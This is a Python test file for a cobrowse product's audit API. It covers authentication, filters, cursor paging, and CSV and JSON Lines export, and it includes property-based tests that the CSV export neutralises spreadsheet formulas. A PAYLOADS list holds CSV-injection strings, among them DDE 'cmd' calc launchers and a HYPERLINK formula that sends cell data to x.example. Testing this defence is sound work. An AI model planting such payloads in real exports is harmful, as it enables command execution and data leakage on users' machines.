"""GET /api/v1/audit and /api/v1/audit/export: API key, filters, cursor pages,
CSV and JSON Lines streams, and clear 4xx answers for bad input."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cobrowse.core import audit as a
from cobrowse.core.audit import AuditEntry, Kind
from cobrowse.server import audit_api
from tests.server.conftest import Server, new_api_key

T = 1_800_000_000.0  # 2027-01-15T08:00:00Z


@pytest.fixture
def api(make_server: Callable[..., Server]) -> tuple[Server, dict[str, str]]:
    key, entry = new_api_key()
    server = make_server(auth={"api_keys": [entry]})
    entries = [
        a.chat_entry(at=T + 1, session_id="s_a", actor="visitor", text="hello"),
        a.control_entry(at=T + 2, session_id="s_a", actor="Asha Rao", action="request"),
        a.chat_entry(at=T + 3, session_id="s_b", actor="Asha Rao", text="hi"),
        AuditEntry(at=T + 4, kind=Kind.AGENT_LINK_ISSUED, actor="crm:0123", detail="link"),
        a.file_entry(
            at=T + 5,
            kind=Kind.FILE_OFFERED,
            session_id="s_b",
            actor='=HYPERLINK("x")',
            file_id="f_1",
            name="+cmd.pdf",
            size=3,
            type="application/pdf",
        ),
    ]
    for e in entries:
        server.client.portal.call(server.ctx.audit.record, e)  # type: ignore[union-attr]
    return server, {"Authorization": f"Bearer {key}"}


def get(server: Server, path: str, auth: dict[str, str] | None, **params: Any) -> Any:
    return server.client.get(path, params=params, headers=auth or {})


def test_the_api_key_is_required(api: tuple[Server, dict[str, str]]) -> None:
    server, auth = api
    for path in ("/api/v1/audit", "/api/v1/audit/export"):
        for headers in (None, {"Authorization": "Bearer cbk_wrong"}, {"Authorization": "Basic x"}):
            r = get(server, path, headers)
            assert r.status_code == 401 and r.json()["error"]["code"] == "bad_api_key"
    assert get(server, "/api/v1/audit", auth).status_code == 200


def test_filters(api: tuple[Server, dict[str, str]]) -> None:
    server, auth = api

    def kinds(**params: Any) -> list[str]:
        r = get(server, "/api/v1/audit", auth, **params)
        assert r.status_code == 200, r.text
        return [e["kind"] for e in r.json()["entries"]]

    assert kinds() == [
        "chat.sent",
        "control.requested",
        "chat.sent",
        "agent_link.issued",
        "file.offered",
    ]
    assert kinds(session_id="s_a") == ["chat.sent", "control.requested"]
    assert kinds(kind="chat.sent") == ["chat.sent", "chat.sent"]
    assert kinds(kind="chat.sent, agent_link.issued") == [
        "chat.sent",
        "chat.sent",
        "agent_link.issued",
    ]
    assert kinds(actor="Asha Rao") == ["control.requested", "chat.sent"]
    assert kinds(since=str(T + 2), until=str(T + 4)) == ["control.requested", "chat.sent"]
    assert kinds(since="2027-01-15T08:00:03Z") == ["chat.sent", "agent_link.issued", "file.offered"]
    assert kinds(until="2027-01-15T13:30:02+05:30") == ["chat.sent"]  # the same instant in IST
    assert kinds(session_id="s_a", actor="visitor") == ["chat.sent"]
    first = get(server, "/api/v1/audit", auth, kind="chat.sent").json()["entries"][0]
    assert first["time"] == "2027-01-15T08:00:01.000Z" and first["at"] == T + 1
    assert first["data"] == {"chars": 5} and first["detail"] == "sent a message of 5 characters"


def test_cursor_pages_walk_everything_once(api: tuple[Server, dict[str, str]]) -> None:
    server, auth = api
    seen: list[int] = []
    cursor: str | None = None
    pages = 0
    while True:
        params: dict[str, Any] = {"limit": 2} | ({"cursor": cursor} if cursor else {})
        body = get(server, "/api/v1/audit", auth, **params).json()
        seen += [e["id"] for e in body["entries"]]
        pages += 1
        cursor = body["next_cursor"]
        if cursor is None:
            break
    assert pages == 3 and len(seen) == 5 and seen == sorted(set(seen))


@pytest.mark.parametrize(
    ("params", "code"),
    [
        ({"kind": "chat.sent,session.hacked"}, "unknown_kind"),
        ({"since": "yesterday"}, "bad_time"),
        ({"until": "2027-13-40"}, "bad_time"),
        ({"since": str(T + 5), "until": str(T)}, "bad_time_range"),
        ({"cursor": "abc"}, "bad_cursor"),
        ({"cursor": "-1"}, "bad_cursor"),
        ({"limit": "0"}, "invalid_request"),
        ({"limit": "1001"}, "invalid_request"),
        ({"limit": "ten"}, "invalid_request"),
        ({"session_id": "s" * 65}, "invalid_request"),
    ],
)
def test_bad_filters_get_a_clear_422(
    api: tuple[Server, dict[str, str]], params: dict[str, str], code: str
) -> None:
    server, auth = api
    for path in ("/api/v1/audit", "/api/v1/audit/export"):
        if path.endswith("export") and "limit" in params:
            continue  # the export has no limit
        r = get(server, path, auth, **params)
        assert r.status_code == 422, (path, params, r.text)
        assert r.json()["error"]["code"] == code
    r = get(server, "/api/v1/audit/export", auth, format="xml")
    assert r.status_code == 422 and r.json()["error"]["code"] == "bad_format"


def test_jsonl_export_streams_every_entry_across_batches(
    api: tuple[Server, dict[str, str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    server, auth = api
    monkeypatch.setattr(audit_api, "EXPORT_BATCH", 2)
    r = get(server, "/api/v1/audit/export", auth, format="jsonl")
    assert r.status_code == 200
    assert r.headers["content-type"] == "application/x-ndjson"
    assert r.headers["content-disposition"] == 'attachment; filename="audit.jsonl"'
    lines = [json.loads(line) for line in r.text.splitlines()]
    assert [e["kind"] for e in lines] == [
        "chat.sent",
        "control.requested",
        "chat.sent",
        "agent_link.issued",
        "file.offered",
    ]
    page = get(server, "/api/v1/audit", auth).json()["entries"]
    assert lines == page  # the same objects as the API's
    filtered = get(server, "/api/v1/audit/export", auth, format="jsonl", session_id="s_b")
    assert [json.loads(x)["kind"] for x in filtered.text.splitlines()] == [
        "chat.sent",
        "file.offered",
    ]


def test_csv_export_has_a_header_and_defuses_formulas(api: tuple[Server, dict[str, str]]) -> None:
    server, auth = api
    r = get(server, "/api/v1/audit/export", auth, format="csv", session_id="s_b")
    assert r.status_code == 200 and r.headers["content-type"] == "text/csv; charset=utf-8"
    rows = list(csv.DictReader(io.StringIO(r.text)))
    assert list(rows[0]) == list(audit_api.CSV_COLUMNS)
    assert [row["kind"] for row in rows] == ["chat.sent", "file.offered"]
    assert rows[0]["data"] == '{"chars": 2}' and rows[0]["session_id"] == "s_b"
    assert rows[1]["actor"] == '\'=HYPERLINK("x")'  # not a formula in a spreadsheet
    assert rows[1]["target"] == "'+cmd.pdf"
    assert rows[0]["address"] == "" and rows[0]["time"] == "2027-01-15T08:00:03.000Z"


def test_an_empty_export_is_just_the_header(api: tuple[Server, dict[str, str]]) -> None:
    server, auth = api
    r = get(server, "/api/v1/audit/export", auth, format="csv", session_id="s_none")
    assert r.text == ",".join(f'"{c}"' for c in audit_api.CSV_COLUMNS) + "\r\n"
    assert get(server, "/api/v1/audit/export", auth, session_id="s_none").text == ""


def test_the_audit_endpoints_are_in_the_openapi_document(
    api: tuple[Server, dict[str, str]],
) -> None:
    server, _ = api
    paths = server.client.get("/openapi.json").json()["paths"]
    assert {"/api/v1/audit", "/api/v1/audit/export"} <= set(paths)


# --- CSV injection -----------------------------------------------------------------

FORMULA = "=+-@\uff1d\uff0b\uff0d\uff20"
LEADS = ' \t\r\n\x00\x0b\x0c"'  # what a spreadsheet may drop before a formula
PAYLOADS = [
    '=HYPERLINK("http://x.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    ' "=1+1',
    "\uff1d1+1",
    "Asha;=1+1",
    "Asha,=1+1",
    'Asha,"=1+1',
    "Asha\t@SUM(1)",
    "Asha|-1",
    "Asha\n+1",
]


def _entry(text: str) -> AuditEntry:
    return AuditEntry(
        at=T,
        kind=Kind.FILE_OFFERED,
        actor=text,
        session_id=text,
        address=text,
        target=text,
        outcome=text,
        detail=text,
        data={"name": text, "size": 3},
        id=7,
    )


def _cells_a_spreadsheet_could_see(line: str) -> list[str]:
    """Every cell of `line` as a reader splitting on any separator (its locale's) or line
    break might see it, quotes or not, with what it drops in front."""
    pieces = [line]
    for sep in (",", ";", "\t", "|", "\r", "\n"):
        pieces = [part for piece in pieces for part in piece.split(sep)]
    return [p.lstrip(LEADS) for p in pieces]


@given(
    st.one_of(st.sampled_from(PAYLOADS), st.text(alphabet=FORMULA + LEADS + ",;|'ab1", max_size=12))
)
def test_no_csv_cell_starts_a_formula_whatever_the_separator(text: str) -> None:
    line = audit_api.csv_line(audit_api.csv_row(_entry(text)))
    for cell in _cells_a_spreadsheet_could_see(line):
        assert cell[:1] not in tuple(FORMULA), (text, cell, line)
    # Read as CSV, each cell says what was recorded, with apostrophes added only.
    (row,) = list(csv.reader(io.StringIO(line)))
    assert len(row) == len(audit_api.CSV_COLUMNS)
    assert row[0] == "7" and row[2] == str(T)
    for cell in (row[3], row[5], row[6], row[7], row[8], row[9]):
        assert cell.replace("'", "") == text.replace("'", "")


def test_the_payloads_themselves() -> None:
    """As a spreadsheet would show them: apostrophe first, the rest as it was."""
    cells = [audit_api.csv_row(_entry(p))[5] for p in PAYLOADS]
    assert cells[:4] == ["'" + p for p in PAYLOADS[:4]]
    assert cells[PAYLOADS.index("Asha;=1+1")] == "Asha;'=1+1"
    assert cells[PAYLOADS.index('Asha,"=1+1')] == "Asha,\"'=1+1"
    assert audit_api.csv_row(_entry("Form 16 - 2024.pdf"))[5] == "Form 16 - 2024.pdf"
